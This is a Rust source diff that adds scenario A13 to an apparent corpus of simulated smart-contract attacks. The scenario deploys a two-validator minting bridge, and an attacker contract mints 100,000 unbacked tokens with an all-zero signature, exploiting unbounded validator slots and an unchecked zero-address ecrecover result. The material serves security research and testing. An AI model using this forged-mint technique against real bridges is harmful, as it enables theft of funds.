@@ -1,4 +1,4 @@
-//! A1–A12: the attacks. Each ends with one `attack` transaction and a check
+//! A1–A13: the attacks. Each ends with one `attack` transaction and a check
 //! that it moved the value SCENARIOS.md's executed run measured.
 
 use alloy_primitives::{keccak256, Address, B256, U256};
@@ -9,23 +9,23 @@ use super::{
     amt, eth, fmt_e18, frac,
     steps::{
         add_liquidity, borrow, bridge, deploy_plain, game_items, item_pool, lending_pool, list_market, lock_in_bridge,
-        manual_feed, price_oracle, stable_pool, staking, supply, vault,
+        manual_feed, mint_with_signature, minting_bridge, price_oracle, stable_pool, staking, supply, vault,
     },
     Kind, Sc, Scenario,
 };
 use crate::{
     contracts::{
-        AggregationRouter, BorrowCallbackReentry, BridgeForgedRelease, DonationLiquidation, ERC1967Proxy, EthMarket,
-        FeeCollector, FlashStakeClaim, FlashVote, GameItems, Governor, ItemPool, ItemPoolDust, MarginMarket,
-        PairSpotFeed, PriceOracle, ReinitializeSweep, RewardVouchers, RouterApprovalDrain, SpotOracleBorrow,
-        StableEthPool, StableLpFeed, StakingRewards, SwapRouter, Token, VaultInflation, VirtualPriceReentry,
-        VoucherReplay, YieldAggregator, WETH,
+        AggregationRouter, BorrowCallbackReentry, BridgeForgedMint, BridgeForgedRelease, DonationLiquidation,
+        ERC1967Proxy, EthMarket, FeeCollector, FlashStakeClaim, FlashVote, GameItems, Governor, ItemPool, ItemPoolDust,
+        MarginMarket, PairSpotFeed, PriceOracle, ReinitializeSweep, RewardVouchers, RouterApprovalDrain,
+        SpotOracleBorrow, StableEthPool, StableLpFeed, StakingRewards, SwapRouter, Token, VaultInflation,
+        VirtualPriceReentry, VoucherReplay, YieldAggregator, WETH,
     },
     keys::Actor,
     CorpusError,
 };
 
-pub(super) const ALL: [Scenario; 12] = [
+pub(super) const ALL: [Scenario; 13] = [
     Scenario {
         id: "A1",
         name: "flash-loan-spot-oracle-borrow",
@@ -151,6 +151,20 @@ pub(super) const ALL: [Scenario; 12] = [
             lender. The attacker proposes moving the treasury's WETH to itself, then its contract flash-borrows \
             660,000 GOV, votes with 675,000, executes the proposal and repays: the treasury loses 800 WETH.",
         build: a12,
+    },
+    Scenario {
+        id: "A13",
+        name: "bridge-mint-unproven-message",
+        kind: Kind::Attack,
+        description:
+            "A MintingBridge mints bETH, a BridgedToken only the bridge can mint, for inbound messages signed \
+            by one of up to four validators; the signature names its validator slot. This deployment has two \
+            validators, so slots 2 and 3 hold the zero address, and receiveMessage neither bounds the slot by the \
+            validator count nor rejects the zero address ecrecover returns for an invalid signature. Three users \
+            mint 410 bETH with valid signatures. The attacker's contract submits a message minting 100,000 bETH to \
+            itself, attributed to slot 2, with an all-zero signature, and keeps it: unbacked supply, no other \
+            balance changes.",
+        build: a13,
     },
 ];
 
@@ -863,4 +877,42 @@ fn a12(sc: &mut Sc) -> Result<(), CorpusError> {
     gained(sc, "attacker WETH", before, sc.bal(b.weth, attacker.address())?, eth(800))?;
     let left = sc.bal(b.weth, governor)?;
     sc.check(left.is_zero(), || format!("treasury still holds {} WETH", fmt_e18(left)))
+}
+
+fn a13(sc: &mut Sc) -> Result<(), CorpusError> {
+    let [validator, validator2, user1, user2, user3, attacker] = sc.genesis(
+        100_000,
+        [("bridgeValidator", 0), ("bridgeValidator2", 0), ("user1", 1), ("user2", 1), ("user3", 1), ("attacker", 1)],
+    )?;
+    sc.base()?;
+    let (bridge, beth) = minting_bridge(sc, &[&validator, &validator2])?;
+    // Users relay their own attested messages.
+    mint_with_signature(sc, &user1, bridge, (&validator, 0), 0, user1.address(), eth(120))?;
+    mint_with_signature(sc, &user2, bridge, (&validator2, 1), 1, user2.address(), eth(250))?;
+    mint_with_signature(sc, &user3, bridge, (&validator, 0), 2, user3.address(), eth(40))?;
+    let exploit = deploy_plain(sc, &attacker, "BridgeForgedMint", &BridgeForgedMint::BYTECODE)?;
+    let supply0: U256 = sc.chain.view(beth, &Token::totalSupplyCall {})?;
+    sc.check(supply0 == eth(410), || format!("bETH supply {} before the attack, expected 410", fmt_e18(supply0)))?;
+    let before = sc.bal(beth, exploit)?;
+    let amount = eth(100_000);
+    sc.attack(
+        &attacker,
+        exploit,
+        BridgeForgedMint::relayCall { bridge, amount, nonce: 9000 },
+        &format!(
+            "BridgeForgedMint.relay(MintingBridge, {}, 9000) - mint for a message no validator signed",
+            amt(amount)
+        ),
+    )?;
+    let after = sc.bal(beth, exploit)?;
+    sc.check(after == before + amount, || {
+        format!("attacker contract bETH {} -> {}, expected +100000", fmt_e18(before), fmt_e18(after))
+    })?;
+    let supply: U256 = sc.chain.view(beth, &Token::totalSupplyCall {})?;
+    sc.check(supply == supply0 + amount, || format!("bETH supply {}, expected 100410", fmt_e18(supply)))?;
+    for (user, expected) in [(&user1, 120), (&user2, 250), (&user3, 40)] {
+        let got = sc.bal(beth, user.address())?;
+        sc.check(got == eth(expected), || format!("{} bETH {}, expected {expected}", user.role, fmt_e18(got)))?;
+    }
+    Ok(())
 }
